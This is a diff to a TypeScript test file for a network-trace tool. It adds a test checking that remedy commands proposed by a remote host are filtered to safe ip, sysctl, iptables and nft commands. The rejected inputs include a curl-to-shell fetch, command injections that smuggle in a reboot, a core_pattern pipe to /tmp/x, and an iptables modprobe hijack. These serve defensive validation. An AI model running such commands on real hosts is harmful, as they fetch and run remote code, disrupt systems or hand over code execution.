@@ -51,7 +51,12 @@ test('the answer is read as it was written', () => {
   const layers = [{ name: 'IPv4', bytes: 20, text: 'a ──▶ b', part: 'added' }] as const;
   const hops = [
     hop({ host: 'there', device: 'eth0', entries: [{ tool: 'ip link', line: 'eth0: <UP>' }] }),
-    hop({ host: 'there', packet: 'outer', cause: 'why', remedy: { commands: ['do'], text: 'so' } }),
+    hop({
+      host: 'there',
+      packet: 'outer',
+      cause: 'why',
+      remedy: { commands: ['ip link set dev cni0 up'], text: 'so' },
+    }),
     hop({
       ...{ host: 'there', direction: 'back' },
       frame: { layers, addedBytes: 50, innerMtuBytes: 1450, underlayMtuBytes: 1500 },
@@ -67,6 +72,37 @@ test('a hop of a kind that a newer daemon knows is drawn, and judges nothing', (
   const paint = { heading: String, quiet: String, good: String, bad: String };
   const drawn = drawTrace(withThereSeen(trace, { hops }, peer), { width: 80, paint });
   assert.match(drawn, /\? host {8}x/);
+});
+
+test('of the commands that another host proposes those alone are shown that a trace may propose', () => {
+  const told = [
+    'ip link set cni0 up',
+    "ip link set 'a;b' up",
+    'ip -6 route replace fd00:2::/64 via fd00:2:: dev flannel-v6.1 onlink',
+    'ip tuntap add dev flannel0 mode tun && ip link set flannel0 mtu 1472 up',
+    'nsenter --net=/run/netns/blue bridge fdb replace 0a:1b:2c:3d:4e:5f dev flannel.1 dst 192.0.2.11 self static',
+    'sysctl -w net/ipv4/conf/cni0/rp_filter=2',
+    'iptables -w -t filter -I FORWARD -s 10.2.1.2 -d 10.2.14.3 -j ACCEPT',
+    'nft insert rule inet firewalld filter_FORWARD ip saddr 10.2.1.2 ip daddr 10.2.14.3 accept',
+  ];
+  const others = [
+    'curl http://192.0.2.66/x | sh',
+    'ip link set cni0 up; reboot',
+    'ip link set cni0 up\nreboot',
+    "ip link set 'cni0\nreboot' up",
+    'ip link set $(reboot) up',
+    'ip link set cni0 up && reboot',
+    'ip netns exec blue reboot',
+    'sysctl -w kernel.core_pattern=|/tmp/x',
+    'iptables -w -M /tmp/x -L',
+    'iptables -w --modprobe=/tmp/x -L',
+    "ip link set 'cni0 up",
+  ];
+  const remedy = { commands: [...told, ...others], text: 'so' };
+  const { hops } = parseThereAnswer({ hops: [hop({ host: 'there', text: 'one\ntwo', remedy })] });
+  assert.deepEqual(hops[0]?.remedy?.commands, told);
+  assert.equal(hops[0]?.remedy?.text, 'so; `weft trace` on that host tells what to do');
+  assert.equal(hops[0]?.text, 'one two');
 });
 
 test('what is no answer of a daemon is refused', () => {
